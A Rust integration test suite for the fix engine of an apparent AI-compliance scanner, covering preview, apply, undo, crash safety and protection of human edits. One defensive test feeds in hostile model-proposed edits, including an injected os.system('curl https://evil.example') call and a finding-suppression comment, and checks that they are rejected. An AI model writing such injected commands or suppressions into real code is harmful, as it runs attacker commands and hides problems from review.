//! Fixes over HTTP and on the command line: preview, apply, undo, history, and what happens when something is in the way.

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::Path;
use std::time::Duration;

use serde_json::{Value, json};

use crate::support::{Daemon, example, fingerprint, project, read_until, run, wait_for};
use crate::target::Target;

/// A service in a use of Annex III, in which several findings have a fix that is safe, on several lines and in several files.
const SERVICE: &str = r#"//- app/ranking.py
"""Ranks applications."""

import logging

from openai import OpenAI

logger = logging.getLogger(__name__)
client = OpenAI()


def rank(text: str) -> str:
    answer = client.responses.create(model="gpt-4.1-2025-04-14", input=text)
    return answer.output_text


def shorten(text: str) -> str:
    answer = client.responses.create(model="gpt-4.1-2025-04-14", input="shorten: " + text)
    return answer.output_text
//- app/main.py
import logging

from fastapi import FastAPI

from app.ranking import rank, shorten

logging.basicConfig(level=logging.INFO)
app = FastAPI()


@app.post("/rank")
def ranked(text: str) -> str:
    return rank(text)


@app.post("/shorten")
def shortened(text: str) -> str:
    return shorten(text)
//- app/letters.py
from openai import OpenAI

client = OpenAI()


def letter(text: str) -> str:
    answer = client.responses.create(model="gpt-4.1-2025-04-14", input="write: " + text)
    return answer.output_text
//- app/routes.py
from fastapi import APIRouter

from app.letters import letter

router = APIRouter()


@router.post("/letters")
def letters(text: str) -> str:
    return letter(text)
//- requirements.txt
fastapi==0.115.0
openai
//- constraints.txt
openai==1.51.0
//- .compliance/profile.toml
version = 1

[systems.main.annex-iii-employment]
value = ["4(a)"]
by = "Tester"
on = 2026-11-01

[systems.main.annex-iii-exemption]
value = "none"
by = "Tester"
on = 2026-11-01
"#;

/// The same with one call.
const LETTERS: &str = r#"//- app/letters.py
from openai import OpenAI

client = OpenAI()


def letter(text: str) -> str:
    answer = client.responses.create(model="gpt-4.1-2025-04-14", input="write: " + text)
    return answer.output_text
//- app/main.py
from fastapi import FastAPI

from app.letters import letter

app = FastAPI()


@app.post("/letters")
def letters(text: str) -> str:
    return letter(text)
//- requirements.txt
fastapi==0.115.0
openai==1.51.0
//- .compliance/profile.toml
version = 1

[systems.main.annex-iii-employment]
value = ["4(a)"]
by = "Tester"
on = 2026-11-01

[systems.main.annex-iii-exemption]
value = "none"
by = "Tester"
on = 2026-11-01
"#;

/// Bytes and permissions of all files outside the state, by path.
fn tree(folder: &Path) -> BTreeMap<String, (Vec<u8>, u32)> {
    fn walk(root: &Path, folder: &Path, all: &mut BTreeMap<String, (Vec<u8>, u32)>) {
        for entry in fs::read_dir(folder).unwrap() {
            let entry = entry.unwrap();
            let path = entry.path();
            if entry.file_name() == ".compliance" && folder == root {
                continue;
            }
            let name = path.strip_prefix(root).unwrap().to_string_lossy().into_owned();
            if path.is_dir() {
                all.insert(format!("{name}/"), (Vec::new(), 0));
                walk(root, &path, all);
            } else {
                let mode = entry.metadata().unwrap().permissions().mode();
                all.insert(name, (fs::read(&path).unwrap(), mode));
            }
        }
    }
    let mut all = BTreeMap::new();
    walk(folder, folder, &mut all);
    all
}

fn preview(daemon: &Daemon) -> Value {
    let reply = daemon.get("/fix/preview?path=.");
    assert_eq!(reply.status, 200, "{}", reply.body);
    reply.json()
}

fn safe(preview: &Value) -> Vec<&Value> {
    preview["fixes"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|fix| fix["safe"] == true)
        .collect()
}

#[test]
fn a_preview_changes_nothing_and_what_it_says_comes_true() {
    let project = project(SERVICE);
    let before = fingerprint(project.path());
    let daemon = Daemon::start(project.path(), &[]);
    let shown = preview(&daemon);
    assert_eq!(fingerprint(project.path()), before);
    assert!(safe(&shown).len() >= 2, "{shown:#}");
    for fix in shown["fixes"].as_array().unwrap() {
        assert!(fix["scoreImpact"].as_str().unwrap().starts_with(['+', '-']), "{fix}");
        assert!(fix["diff"].as_str().unwrap().contains("@@"), "{fix}");
        assert!(
            fix["instruction"]
                .as_str()
                .unwrap()
                .contains(fix["file"].as_str().unwrap()),
            "{fix}"
        );
    }
    let scan = daemon.post("/scan", r#"{"path": "."}"#).json();
    assert_eq!(scan["score"]["compliance"], shown["currentScore"]);
    let reply = daemon.post("/fix/apply-all", r#"{"path": ".", "guided": true}"#).json();
    assert_eq!(reply["summary"]["failed"], 0, "{reply:#}");
    assert_eq!(reply["summary"]["applied"], shown["count"], "{reply:#}");
    let after = daemon.post("/scan", r#"{"path": "."}"#).json();
    assert_eq!(after["score"]["compliance"], shown["projectedScore"]);
    assert_eq!(after["score"]["compliance"], reply["summary"]["scoreAfter"]);
    let ids = |scan: &Value| -> Vec<String> {
        let open = scan["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|finding| finding["type"] != "pass")
            // A notice lists the open questions of a draft.
            .filter(|finding| {
                let file = finding["file"].as_str().unwrap_or("");
                finding["type"] != "info" || !file.starts_with(".compliance/documents/")
            });
        open.map(|finding| finding["id"].as_str().unwrap().to_owned()).collect()
    };
    let (old, new) = (ids(&scan), ids(&after));
    assert!(new.iter().all(|id| old.contains(id)), "a fix brought up a finding");
    let fixes = shown["fixes"].as_array().unwrap();
    for result in reply["results"].as_array().unwrap() {
        let fix = fixes
            .iter()
            .find(|fix| fix["findingId"] == result["findingId"])
            .unwrap();
        let is_open = new.contains(&result["findingId"].as_str().unwrap().to_owned());
        assert_eq!(is_open, fix["resolves"] == false, "{result}");
    }
}

#[test]
fn all_safe_fixes_are_applied_once_and_undone_to_the_byte() {
    let project = project(SERVICE);
    fs::set_permissions(project.path().join("app/letters.py"), fs::Permissions::from_mode(0o755)).unwrap();
    let before = tree(project.path());
    let daemon = Daemon::start(project.path(), &[]);
    let reply = daemon.post("/fix/apply-all", r#"{"projectPath": "."}"#).json();
    let applied = reply["summary"]["applied"].as_u64().unwrap();
    assert!(applied >= 2, "{reply:#}");
    let fixed = tree(project.path());
    assert_ne!(fixed, before);
    assert_eq!(
        fixed["app/letters.py"].1, before["app/letters.py"].1,
        "the mode is kept"
    );
    let again = daemon.post("/fix/apply-all", r#"{"projectPath": "."}"#).json();
    assert_eq!(again["summary"]["applied"], 0, "{again:#}");
    assert_eq!(tree(project.path()), fixed);
    let history = daemon.get("/fix/history?path=.").json();
    assert_eq!(history["count"], applied);
    for _ in 0..applied {
        let undo = daemon.post("/fix/undo", r#"{"path": "."}"#);
        assert_eq!(undo.status, 200, "{}", undo.body);
    }
    assert_eq!(tree(project.path()), before);
    daemon
        .post("/fix/undo", r#"{"path": "."}"#)
        .assert_failure(404, "unknown-fix");
    let report = daemon.get("/agent/evidence/verify?path=.").json();
    assert_eq!(report["valid"], true, "{report:#}");
    let audit = daemon.get("/agent/audit?path=.&type=fix").json();
    assert_eq!(audit.as_array().unwrap().len() as u64, applied);
}

#[test]
fn an_event_and_an_entry_say_that_a_fix_was_applied() {
    use std::io::Write;
    let project = project(SERVICE);
    let daemon = Daemon::start(project.path(), &["--project", "."]);
    let mut stream = daemon.connect();
    write!(stream, "GET /events HTTP/1.1\r\nHost: localhost\r\n\r\n").unwrap();
    read_until(&mut stream, ": connected");
    let result = daemon
        .post("/fix/apply", r#"{"checkId": "l4-unlogged-model-call"}"#)
        .json();
    assert_eq!(result["applied"], true, "{result:#}");
    assert!(result["evidenceId"].is_string() && result["diff"].as_str().unwrap().contains("@@"));
    let told = read_until(&mut stream, "fix.applied");
    assert!(told.contains("evidence.appended"), "{told}");
    let validated = daemon
        .post(
            "/fix/apply-and-validate",
            r#"{"checkId": "l4-unhandled-model-failure", "toolchain": true}"#,
        )
        .json();
    assert_eq!(validated["validation"]["findingResolved"], true, "{validated:#}");
    assert_eq!(validated["validation"]["newFindings"], json!([]));
}

#[test]
fn a_fix_of_an_outdated_preview_is_refused() {
    let project = project(SERVICE);
    let daemon = Daemon::start(project.path(), &["--project", "."]);
    let shown = preview(&daemon);
    let fix = safe(&shown)[0];
    let file = project.path().join(fix["file"].as_str().unwrap());
    let text = fs::read_to_string(&file).unwrap();
    fs::write(&file, format!("{text}# a person was here\n")).unwrap();
    let body = json!({"findingId": fix["findingId"], "fixId": fix["fixId"]}).to_string();
    daemon.post("/fix/apply", &body).assert_failure(409, "state-conflict");
    assert!(fs::read_to_string(&file).unwrap().ends_with("# a person was here\n"));
}

#[test]
fn an_undo_never_takes_away_what_a_person_wrote() {
    let project = project(SERVICE);
    let daemon = Daemon::start(project.path(), &["--project", "."]);
    let result = daemon
        .post("/fix/apply", r#"{"checkId": "l4-unhandled-model-failure"}"#)
        .json();
    let file = project.path().join(result["files"][0].as_str().unwrap());
    let fixed = fs::read_to_string(&file).unwrap();
    fs::write(&file, format!("{fixed}# mine\n")).unwrap();
    let refused = daemon.post("/fix/undo", "{}").assert_failure(409, "state-conflict");
    assert!(
        refused["details"].as_str().unwrap().contains("has changed since"),
        "{refused}"
    );
    let history = daemon.get("/fix/history").json();
    assert_eq!(history["fixes"][0]["canUndo"], false);
    assert!(fs::read_to_string(&file).unwrap().ends_with("# mine\n"));
    fs::write(&file, fixed).unwrap();
    assert_eq!(daemon.post("/fix/undo", "{}").status, 200);
}

#[test]
fn a_later_fix_of_the_same_file_is_named_before_an_earlier_one_is_undone() {
    let project = project(SERVICE);
    let daemon = Daemon::start(project.path(), &["--project", "."]);
    daemon.post("/fix/apply-all", r#"{"guided": true}"#);
    let history = daemon.get("/fix/history").json();
    let fixes = history["fixes"].as_array().unwrap();
    let (later, earlier) = fixes
        .iter()
        .enumerate()
        .find_map(|(at, later)| {
            let earlier = fixes[at + 1..].iter().find(|other| other["files"] == later["files"])?;
            Some((later, earlier))
        })
        .unwrap();
    let refused = daemon
        .post("/fix/undo", &json!({"id": earlier["id"]}).to_string())
        .assert_failure(409, "state-conflict");
    let told = refused["details"].as_str().unwrap();
    assert!(told.contains("undo that one first") && told.contains("fix "), "{told}");
    assert_eq!(earlier["canUndo"], false);
    assert_eq!(
        daemon.post("/fix/undo", &json!({"id": later["id"]}).to_string()).status,
        200
    );
}

#[test]
fn links_and_read_only_files_are_said_and_no_file_changes() {
    let outside = tempfile::tempdir().unwrap();
    let project = project(SERVICE);
    let daemon = Daemon::start(project.path(), &["--project", "."]);
    let shown = preview(&daemon);
    let of_two_files = |fix: &&&Value| fix["files"].as_array().unwrap().contains(&json!("app/ranking.py"));
    let id = safe(&shown).iter().find(of_two_files).unwrap()["findingId"].clone();
    let body = json!({"findingId": id}).to_string();
    // One of two files of the fix cannot be written: neither is.
    let file = project.path().join("app/ranking.py");
    fs::set_permissions(&file, fs::Permissions::from_mode(0o444)).unwrap();
    let before = tree(project.path());
    let refused = daemon.post("/fix/apply", &body).assert_failure(409, "state-conflict");
    assert!(refused["details"].as_str().unwrap().contains("read-only"), "{refused}");
    assert_eq!(tree(project.path()), before);
    fs::set_permissions(&file, fs::Permissions::from_mode(0o644)).unwrap();
    // The file becomes a link that leads out of the project.
    let elsewhere = outside.path().join("ranking.py");
    fs::rename(&file, &elsewhere).unwrap();
    symlink(&elsewhere, &file).unwrap();
    let kept = fs::read(&elsewhere).unwrap();
    let reply = daemon.post("/fix/apply-all", r#"{"guided": true}"#);
    assert!(!reply.body.contains("app/ranking.py\\n+++"), "{}", reply.body);
    assert_eq!(fs::read(&elsewhere).unwrap(), kept);
    assert!(file.symlink_metadata().unwrap().file_type().is_symlink());
}

#[test]
fn twenty_applies_at_once_come_one_after_the_other() {
    let mut text = String::new();
    for number in 0..20 {
        let key = format!("sk-proj-q8Zr2LwT5vN1xKc7Hb{number:02}");
        let name = format!("OPENAI_KEY_{number:02}");
        let module = format!(
            "//- app/m{number}.py\nfrom openai import OpenAI\n\n{name} = \"{key}\"\nclient = OpenAI(api_key={name})\n"
        );
        text.push_str(&module);
    }
    let project = project(&text);
    let daemon = Daemon::start(project.path(), &["--project", "."]);
    let shown = preview(&daemon);
    assert!(!shown.to_string().contains("q8Zr2LwT5vN1xKc7Hb"), "a secret is shown");
    let ids: Vec<Value> = shown["fixes"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|fix| fix["checkId"] == "secret-ai-key")
        .map(|fix| fix["findingId"].clone())
        .collect();
    assert_eq!(ids.len(), 20, "{shown:#}");
    std::thread::scope(|scope| {
        for id in &ids {
            let daemon = &daemon;
            scope.spawn(move || {
                let body = json!({"findingId": id}).to_string();
                // A busy engine asks to come again.
                let mut reply = daemon.post("/fix/apply", &body);
                while reply.status == 429 {
                    std::thread::sleep(Duration::from_millis(50));
                    reply = daemon.post("/fix/apply", &body);
                }
                assert_eq!(reply.status, 200, "{}", reply.body);
            });
        }
    });
    for number in 0..20 {
        let text = fs::read_to_string(project.path().join(format!("app/m{number}.py"))).unwrap();
        assert!(text.contains("os.environ") && !text.contains("sk-proj"), "{text}");
    }
    let state = fs::read(project.path().join(".compliance/state.db")).unwrap();
    let secret = b"q8Zr2LwT5vN1xKc7Hb";
    assert!(
        !state.windows(secret.len()).any(|window| window == secret),
        "a secret is in the state"
    );
    // What held a secret is not kept, so it does not come back, and that is said.
    let refused = daemon.post("/fix/undo", "{}").assert_failure(409, "state-conflict");
    assert!(refused["details"].as_str().unwrap().contains("secret"), "{refused}");
}

/// Kills the daemon in the middle of `apply-all`, starts it again, and looks whether each fix is wholly applied or wholly absent.
fn killed(points: usize) {
    let mut random: u64 = 0x9E37_79B9_7F4A_7C15;
    let mut interrupted = 0;
    for _ in 0..points {
        let project = project(SERVICE);
        let before = tree(project.path());
        let mut daemon = Daemon::start(project.path(), &["--project", "."]);
        daemon.post("/scan", r#"{"path": "."}"#);
        let mut stream = daemon.connect();
        let body = r#"{"path": "."}"#;
        let request = format!(
            "POST /fix/apply-all/stream HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        );
        std::io::Write::write_all(&mut stream, request.as_bytes()).unwrap();
        read_until(&mut stream, "fix:start");
        random ^= random << 13;
        random ^= random >> 7;
        random ^= random << 17;
        std::thread::sleep(Duration::from_micros(random % 60_000));
        daemon.child.kill().unwrap();
        daemon.wait();
        let daemon = Daemon::start(project.path(), &["--project", "."]);
        let history = daemon.get("/fix/history").json();
        let fixes = history["fixes"].as_array().unwrap();
        assert!(
            fixes
                .iter()
                .all(|fix| fix["status"] == "applied" || fix["status"] == "rolled_back"),
            "{history:#}"
        );
        let applied = fixes.iter().filter(|fix| fix["status"] == "applied").count();
        interrupted += usize::from(applied > 0 && tree(project.path()) != before);
        for _ in 0..applied {
            let undo = daemon.post("/fix/undo", "{}");
            assert_eq!(undo.status, 200, "{}", undo.body);
        }
        assert_eq!(tree(project.path()), before, "something else was left");
        assert_eq!(daemon.get("/agent/evidence/verify").json()["valid"], true);
    }
    assert!(interrupted > 0, "no kill came in the middle");
}

#[test]
fn a_kill_in_the_middle_leaves_each_fix_whole_or_absent() {
    killed(8);
}

#[test]
#[ignore = "slow: two hundred daemons"]
fn two_hundred_kills_in_the_middle_leave_each_fix_whole_or_absent() {
    killed(200);
}

#[test]
fn the_stream_tells_each_step_and_ends_with_the_counts() {
    let project = project(SERVICE);
    let daemon = Daemon::start(project.path(), &["--project", "."]);
    let reply = daemon.post("/fix/apply-all/stream", r#"{"path": "."}"#);
    assert_eq!(reply.header("content-type"), "text/event-stream");
    for name in ["fix:start", "fix:progress", "fix:applied", "fix:done"] {
        assert!(
            reply.body.contains(&format!("event: {name}\n")),
            "{name}: {}",
            reply.body
        );
    }
    let bad = daemon.post("/fix/apply-all/stream", r#"{"path": "./nowhere"}"#);
    assert!(bad.body.contains("fix:error"), "{}", bad.body);
}

#[test]
fn the_command_shows_a_diff_first_and_writes_only_with_apply() {
    let project = project(SERVICE);
    let before = tree(project.path());
    let text = |arguments: &[&str]| {
        let output = run(project.path(), arguments);
        let told = String::from_utf8(output.stderr).unwrap();
        assert!(output.status.success(), "{arguments:?}: {told}");
        String::from_utf8(output.stdout).unwrap()
    };
    let shown = text(&["fix", "."]);
    assert!(
        shown.contains("+++ b/app/") && shown.contains("Nothing was written."),
        "{shown}"
    );
    assert_eq!(tree(project.path()), before);
    assert!(
        !project.path().join(".compliance/state.db").exists(),
        "a preview leaves no trace"
    );
    let applied = text(&["fix", ".", "--all-safe", "--apply"]);
    assert!(applied.contains("Applied: fix 1"), "{applied}");
    assert_ne!(tree(project.path()), before);
    assert!(text(&["undo", ".", "--list"]).contains("can be undone"));
    text(&["undo", ".", "--all"]);
    assert_eq!(tree(project.path()), before);
    let refused = run(project.path(), &["fix", ".", "--apply"]);
    assert_eq!(refused.status.code(), Some(2));
}

#[test]
fn a_log_for_code_hosts_carries_the_fixes() {
    let project = project(SERVICE);
    let output = run(project.path(), &["scan", ".", "--no-state", "--format", "sarif"]);
    let log: Value = serde_json::from_slice(&output.stdout).unwrap();
    let results = log["runs"][0]["results"].as_array().unwrap();
    let with: Vec<&Value> = results.iter().filter(|result| result["fixes"].is_array()).collect();
    assert!(!with.is_empty(), "{log:#}");
    for result in with {
        let change = &result["fixes"][0]["artifactChanges"][0];
        assert!(change["artifactLocation"]["uri"].is_string(), "{change}");
        assert!(
            change["replacements"][0]["deletedRegion"]["startLine"]
                .as_u64()
                .unwrap()
                >= 1
        );
        assert!(change["replacements"][0]["insertedContent"]["text"].is_string());
    }
}

#[test]
fn a_read_only_daemon_previews_and_refuses_to_apply() {
    let project = project(SERVICE);
    let daemon = Daemon::start(project.path(), &["--read-only"]);
    assert!(!safe(&preview(&daemon)).is_empty());
    daemon
        .post(
            "/fix/apply",
            r#"{"path": ".", "checkId": "l4-unhandled-model-failure"}"#,
        )
        .assert_failure(403, "read-only");
    assert!(!project.path().join(".compliance/state.db").exists());
}

/// A model that proposes what it is told to.
fn with_model(text: &str) -> (tempfile::TempDir, Target) {
    let project = project(LETTERS);
    let said = text.to_owned();
    let target = Target::start(Duration::ZERO, move |_| (200, said.clone()));
    fs::create_dir_all(project.path().join(".compliance")).unwrap();
    fs::write(
        project.path().join(".compliance/.env"),
        format!(
            "LLM_URL=http://{}/v1/chat/completions\nLLM_MODEL=small\nLLM_KEY=sk-not-a-real-key\n",
            target.host()
        ),
    )
    .unwrap();
    (project, target)
}

#[test]
fn a_change_of_a_model_passes_the_same_gates_and_is_marked() {
    let good = json!({"edits": [{
        "search": "    answer = client.responses.create(model=\"gpt-4.1-2025-04-14\", input=\"write: \" + text)\n    return answer.output_text",
        "replace": "    try:\n        answer = client.responses.create(model=\"gpt-4.1-2025-04-14\", input=\"write: \" + text)\n    except Exception:\n        \
                    print(\"the model failed\")\n        raise\n    return answer.output_text",
    }], "explanation": "Handles the failure."})
    .to_string();
    let (project, _target) = with_model(&good);
    let daemon = Daemon::start(project.path(), &["--project", "."]);
    let shown = preview(&daemon);
    let id = shown["fixes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|fix| fix["file"] == "app/letters.py" && fix["checkId"] == "l4-unhandled-model-failure")
        .map(|fix| fix["findingId"].clone())
        .unwrap();
    let body = json!({"findingId": id, "useAi": true}).to_string();
    let item = daemon.post("/fix/preview", &body);
    assert_eq!(item.status, 200, "{}", item.body);
    let item = item.json();
    assert_eq!(
        (&item["aiGenerated"], &item["safe"]),
        (&json!(true), &json!(false)),
        "{item:#}"
    );
    assert!(
        item["description"].as_str().unwrap().contains("language model"),
        "{item:#}"
    );
    let result = daemon.post("/fix/apply", &body).json();
    assert_eq!(
        (&result["applied"], &result["aiGenerated"]),
        (&json!(true), &json!(true)),
        "{result:#}"
    );
    assert_eq!(daemon.get("/fix/history").json()["fixes"][0]["aiGenerated"], true);
    assert_eq!(daemon.get("/status").json()["outbound"].as_array().unwrap().len(), 1);
}

#[test]
fn garbage_injected_and_oversized_changes_of_a_model_change_nothing() {
    let edit = |search: &str, replace: &str| json!({"edits": [{"search": search, "replace": replace}]}).to_string();
    let huge = "x".repeat(200_000);
    let call = "    answer = client.responses.create(model=\"gpt-4.1-2025-04-14\", input=\"write: \" + text)";
    for said in [
        "I am sorry, I cannot help with that.",
        "{\"edits\": []}",
        &edit("not in the file", "x"),
        &edit(call, "    import os\n    os.system('curl https://evil.example')"),
        &edit(
            call,
            "    answer = None  # compliance-ignore: l4-unhandled-model-failure -- fine",
        ),
        &edit(call, "    answer = (((("),
        &edit(call, &format!("{call}  # nothing changes")),
        &edit(
            call,
            &format!(
                "    try:\n{}    except Exception:\n        raise\n",
                "        pass\n".repeat(80)
            ),
        ),
        &huge,
    ] {
        let (project, _target) = with_model(said);
        let before = tree(project.path());
        let daemon = Daemon::start(project.path(), &["--project", "."]);
        let shown = preview(&daemon);
        let id = shown["fixes"]
            .as_array()
            .unwrap()
            .iter()
            .find(|fix| fix["file"] == "app/letters.py" && fix["checkId"] == "l4-unhandled-model-failure")
            .map(|fix| fix["findingId"].clone())
            .unwrap();
        let reply = daemon.post("/fix/apply", &json!({"findingId": id, "useAi": true}).to_string());
        assert!(
            matches!(reply.status, 422 | 502),
            "{said:.80}: {} {}",
            reply.status,
            reply.body
        );
        assert!(!reply.body.contains("sk-not-a-real-key"));
        assert_eq!(tree(project.path()), before, "{said:.80}");
    }
}

#[test]
fn without_a_model_the_missing_part_is_named() {
    let project = project(SERVICE);
    let daemon = Daemon::start(project.path(), &["--project", "."]);
    let refused = daemon
        .post(
            "/fix/apply",
            r#"{"checkId": "l4-unhandled-model-failure", "useAi": true}"#,
        )
        .assert_failure(424, "missing-part");
    assert!(refused["details"].as_str().unwrap().contains("LLM_URL"), "{refused}");
    daemon
        .post("/fix/apply-all", r#"{"useAi": true}"#)
        .assert_failure(424, "missing-part");
}

#[test]
fn uncommitted_changes_are_said() {
    let project = project(SERVICE);
    let git = |arguments: &[&str]| {
        let status = std::process::Command::new("git")
            .args(["-c", "user.name=t", "-c", "user.email=t@example.org"])
            .args(arguments)
            .current_dir(project.path())
            .output()
            .unwrap();
        assert!(status.status.success(), "{arguments:?}");
    };
    git(&["init", "-q"]);
    git(&["add", "."]);
    git(&["commit", "-qm", "first"]);
    let daemon = Daemon::start(project.path(), &["--project", "."]);
    assert_eq!(preview(&daemon)["warnings"], json!([]));
    let file = project.path().join("app/letters.py");
    let text = fs::read_to_string(&file).unwrap();
    fs::write(&file, format!("{text}\nLIMIT = 3\n")).unwrap();
    let warnings = preview(&daemon)["warnings"].to_string();
    assert!(
        warnings.contains("uncommitted") && warnings.contains("app/letters.py"),
        "{warnings}"
    );
}

#[test]
fn the_example_project_can_be_fixed_and_undone() {
    let project = example("helpdesk");
    let before = tree(project.path());
    let daemon = Daemon::start(project.path(), &["--project", "."]);
    let reply = daemon.post("/fix/apply-all", r#"{"guided": true}"#).json();
    assert_eq!(reply["summary"]["failed"], 0, "{reply:#}");
    wait_for("the history", || {
        daemon.get("/fix/history").json()["count"] == reply["summary"]["applied"]
    });
    for result in reply["results"].as_array().unwrap().iter().rev() {
        let undo = daemon.post("/fix/undo", &json!({"id": result["fixId"]}).to_string());
        assert_eq!(undo.status, 200, "{}", undo.body);
    }
    assert_eq!(tree(project.path()), before);
}

/// Applies, edits by hand and undoes in a random order; what a person wrote is always there, and what can be undone is.
fn any_order(seed: u64, steps: usize) {
    let mut random = seed;
    let mut below = |end: u64| {
        random ^= random << 13;
        random ^= random >> 7;
        random ^= random << 17;
        random % end
    };
    let project = project(SERVICE);
    let before = tree(project.path());
    let daemon = Daemon::start(project.path(), &["--project", "."]);
    let mut written: Vec<(String, String)> = Vec::new();
    for step in 0..steps {
        match below(4) {
            0 => {
                let reply = daemon.post("/fix/apply-all", "{}");
                assert_eq!(reply.status, 200, "{}", reply.body);
            }
            1 => {
                let reply = daemon.post("/fix/undo", "{}");
                assert!(matches!(reply.status, 200 | 404 | 409), "{}", reply.body);
            }
            2 => {
                let file = ["app/letters.py", "app/ranking.py", "app/main.py"][usize::try_from(below(3)).unwrap()];
                let mine = format!("# a person wrote this in step {step}\n");
                let path = project.path().join(file);
                let text = fs::read_to_string(&path).unwrap();
                fs::write(
                    &path,
                    if below(2) == 0 {
                        format!("{text}{mine}")
                    } else {
                        format!("{mine}{text}")
                    },
                )
                .unwrap();
                written.push((file.to_owned(), mine));
            }
            _ => {
                // A person takes a line of their own back.
                if let Some((file, mine)) = written.pop() {
                    let path = project.path().join(file);
                    let text = fs::read_to_string(&path).unwrap();
                    fs::write(&path, text.replacen(&mine, "", 1)).unwrap();
                }
            }
        }
        for (file, mine) in &written {
            let text = fs::read_to_string(project.path().join(file)).unwrap();
            assert!(text.contains(mine), "step {step}: `{mine}` is gone from {file}");
        }
    }
    while let Some((file, mine)) = written.pop() {
        let path = project.path().join(file);
        let text = fs::read_to_string(&path).unwrap();
        fs::write(&path, text.replacen(&mine, "", 1)).unwrap();
    }
    while daemon.post("/fix/undo", "{}").status == 200 {}
    let history = daemon.get("/fix/history").json();
    let open: Vec<&Value> = history["fixes"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|fix| fix["status"] == "applied")
        .collect();
    if open.is_empty() {
        assert_eq!(tree(project.path()), before, "seed {seed}");
    } else {
        // A fix made while a person's lines stood elsewhere fits no more; it says so and stays.
        assert!(open.iter().any(|fix| fix["whyNot"].is_string()), "{history:#}");
    }
}

#[test]
fn in_any_order_of_apply_edit_and_undo_nothing_of_a_person_is_lost() {
    for seed in 1..=4 {
        any_order(seed * 0x9E37_79B9, 14);
    }
}

#[test]
#[ignore = "slow: sixty projects"]
fn in_many_orders_of_apply_edit_and_undo_nothing_of_a_person_is_lost() {
    for seed in 5..=64 {
        any_order(seed * 0x9E37_79B9, 30);
    }
}
